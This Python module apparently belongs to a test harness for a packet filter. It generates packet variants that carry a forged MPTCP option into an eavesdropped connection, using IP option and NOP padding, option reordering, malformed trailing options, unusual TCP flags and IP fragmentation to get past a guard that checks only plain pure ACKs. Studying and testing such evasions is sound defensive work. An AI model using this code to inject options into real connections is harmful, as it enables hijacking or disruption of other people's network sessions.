"""Packet shapes an attacker tries to get a forged MPTCP option accepted in.

Each shape is a plain function of the forged pure ACK that ``attacks.segment_after``
builds (scapy IP/TCP or IPv6/TCP: the eavesdropped sequence numbers and timestamps,
one MPTCP option after NOP NOP TIMESTAMP) and the option's bytes; it returns the
packets to send, in the base's family (IPv6's analogues of IPv4 options and fragments:
a destination options header, a fragment header). Linux acts on an MPTCP option in every one of these shapes (platform notes); a
guard that checks only short pure ACKs misses all but ``plain``. Sources: RFC 6181,
RFC 7430 and the kernel's tcp_parse_options() (it stops at a malformed option, having
used those before it; it ignores what follows EOL).
"""

from __future__ import annotations

from collections.abc import Callable

KIND_MPTCP = 30
# A DSS with only a 32-bit data ACK (flags A): what a real pure ACK carries before a signal.
DSS_ACK_ONLY = bytes([KIND_MPTCP, 8, 0x20, 0x01]) + b"\0\0\0\0"
UNKNOWN_SUBTYPE = bytes([KIND_MPTCP, 4, 0xF0, 0])  # unassigned subtype 0xf: Linux ignores it
PAYLOAD = b"forged!!"


OPTION_SPACE = 40  # bytes of TCP options a header can hold (a 4-bit data offset)


class NoRoom(ValueError):
    """A shape's options do not fit in a TCP header, even without the timestamp."""


def _area(options: list) -> int:
    """Bytes the options take in the header (before padding), as scapy writes them."""
    return sum(
        1 if kind in ("NOP", "EOL") else 10 if kind == "Timestamp" else 2 + len(value)
        for kind, value in options
    )


def _with_options(base, options: list, **tcp_fields):
    """``base`` with its TCP options replaced (timestamps kept first) and fields changed.

    When the timestamp leaves no room (an IPv6 ADD_ADDR with its HMAC takes 28 of the 40
    bytes, so a DSS or another option beside it does not fit) the timestamp goes, as an
    attacker would drop it: Linux runs PAWS only on segments that carry one. With no room
    even then: NoRoom (scapy would write a data offset that wrapped around)."""
    from scapy.layers.inet import IP, TCP
    from scapy.layers.inet6 import IPv6

    pkt = base.copy()
    ts = [o for o in pkt[TCP].options if o[0] in ("NOP", "Timestamp")]
    kept = next((t for t in (ts, []) if _area(t + options) <= OPTION_SPACE), None)
    if kept is None:
        raise NoRoom(f"{_area(options)} bytes of options do not fit in {OPTION_SPACE}")
    pkt[TCP].options = kept + options
    for name, value in tcp_fields.items():
        setattr(pkt[TCP], name, value)
    if IP in pkt:
        del pkt[IP].len, pkt[IP].chksum
    else:
        del pkt[IPv6].plen
    del pkt[TCP].chksum, pkt[TCP].dataofs
    return pkt


def _ip_class(pkt):
    from scapy.layers.inet import IP
    from scapy.layers.inet6 import IPv6

    return IP if IP in pkt else IPv6


def _opt(option: bytes) -> tuple:
    return (option[0], option[2:])


def plain(base, option: bytes) -> list:
    """The pure ACK itself: the shape the first guard checked."""
    return [_with_options(base, [_opt(option)])]


def ip_options(base, option: bytes) -> list:
    """Padded to 100 bytes and more: 40 bytes of IPv4 options (NOPs), and TCP NOPs; in
    IPv6, a 40-byte destination options header before the TCP header."""
    from scapy.layers.inet import IP, TCP, IPOption
    from scapy.layers.inet6 import HBHOptUnknown, IPv6, IPv6ExtHdrDestOpt

    pkt = tcp_nops(base, option)[0]
    if IP in pkt:
        pkt[IP].options = [IPOption(b"\x01" * 39 + b"\x00")]
        del pkt[IP].ihl
        return [pkt]
    ip = pkt[IPv6]
    # Linux refuses more than 7 bytes of padding in a row (RFC 4942): the bulk is an
    # experimental option (RFC 4727, 0x1e: skip it if unknown), which it skips.
    padding = IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x1E, optdata=b"\0" * 36)])
    return [IPv6(src=ip.src, dst=ip.dst, fl=ip.fl, hlim=ip.hlim) / padding / pkt[TCP]]


def tcp_nops(base, option: bytes) -> list:
    """The option after NOPs that fill the TCP option space."""
    pad = OPTION_SPACE - 12 - len(option)
    if pad < 0:  # no room beside the timestamp: _with_options drops it
        pad = OPTION_SPACE - len(option)
    return [_with_options(base, [("NOP", None)] * pad + [_opt(option)])]


def behind_dss(base, option: bytes) -> list:
    """After a DSS data ACK, where Linux itself puts RM_ADDR and MP_PRIO."""
    return [_with_options(base, [_opt(DSS_ACK_ONLY), _opt(option)])]


def before_dss(base, option: bytes) -> list:
    return [_with_options(base, [_opt(option), _opt(DSS_ACK_ONLY)])]


def behind_unknown(base, option: bytes) -> list:
    """After an unassigned MPTCP subtype: a first-option match sees only that one."""
    return [_with_options(base, [_opt(UNKNOWN_SUBTYPE), _opt(option)])]


def malformed_after(base, option: bytes) -> list:
    """The option, then an option whose length runs past the header: a parser that
    raises on it must not let the packet through, as Linux has used the option before."""
    from scapy.layers.inet import IP, TCP

    layer = _ip_class(base)
    pkt = layer(bytes(_with_options(base, [_opt(option), (0xFE, b"")])))
    header = pkt[IP].ihl * 4 if layer is IP else 40
    raw = bytearray(bytes(pkt))
    timestamp = 12 if any(o[0] == "Timestamp" for o in pkt[TCP].options) else 0
    at = header + 20 + timestamp + len(option)  # after NOP NOP TIMESTAMP and the option
    if raw[at] != 0xFE:
        raise ValueError("unexpected option layout")
    raw[at + 1] = 0x7F
    broken = layer(bytes(raw))
    del broken[TCP].chksum
    return [layer(bytes(broken))]


def rst(base, option: bytes) -> list:
    """On an RST (the legitimate carrier of MP_FASTCLOSE)."""
    return [_with_options(base, [_opt(option)], flags="RA")]


def fin(base, option: bytes) -> list:
    return [_with_options(base, [_opt(option)], flags="FA")]


def psh(base, option: bytes) -> list:
    return [_with_options(base, [_opt(option)], flags="PA")]


def urg(base, option: bytes) -> list:
    return [_with_options(base, [_opt(option)], flags="UA", urgptr=1)]


def payload(base, option: bytes) -> list:
    """Carrying data (a data-level mapping is not needed for the option to be read)."""
    from scapy.packet import Raw

    return [_with_options(base, [_opt(option)], flags="PA") / Raw(PAYLOAD)]


def fragments(base, option: bytes) -> list:
    """The pure ACK in fragments of 8 (IPv4) or 24 (IPv6) bytes: Linux reassembles them
    and acts. (It drops a first IPv6 fragment without the whole TCP header, RFC 7112: so
    24 bytes, and the options are split between the fragments.)"""
    from scapy.layers.inet import TCP, fragment
    from scapy.layers.inet6 import IPv6, IPv6ExtHdrFragment, fragment6

    pkt = _with_options(base, [_opt(option)])
    if IPv6 not in pkt:
        return fragment(pkt.__class__(bytes(pkt)), fragsize=8)
    ip = pkt[IPv6]
    whole = IPv6(src=ip.src, dst=ip.dst, fl=ip.fl, hlim=ip.hlim) / IPv6ExtHdrFragment() / pkt[TCP]
    # fragSize counts the 40-byte header and the 8-byte fragment header: 24 bytes of TCP each
    return fragment6(IPv6(bytes(whole)), 72)


SHAPES: dict[str, Callable] = {
    "plain": plain,
    "ip_options": ip_options,
    "tcp_nops": tcp_nops,
    "behind_dss": behind_dss,
    "before_dss": before_dss,
    "behind_unknown": behind_unknown,
    "malformed_after": malformed_after,
    "psh": psh,
    "urg": urg,
    "payload": payload,
    "fragments": fragments,
    "fin": fin,
    "rst": rst,
}
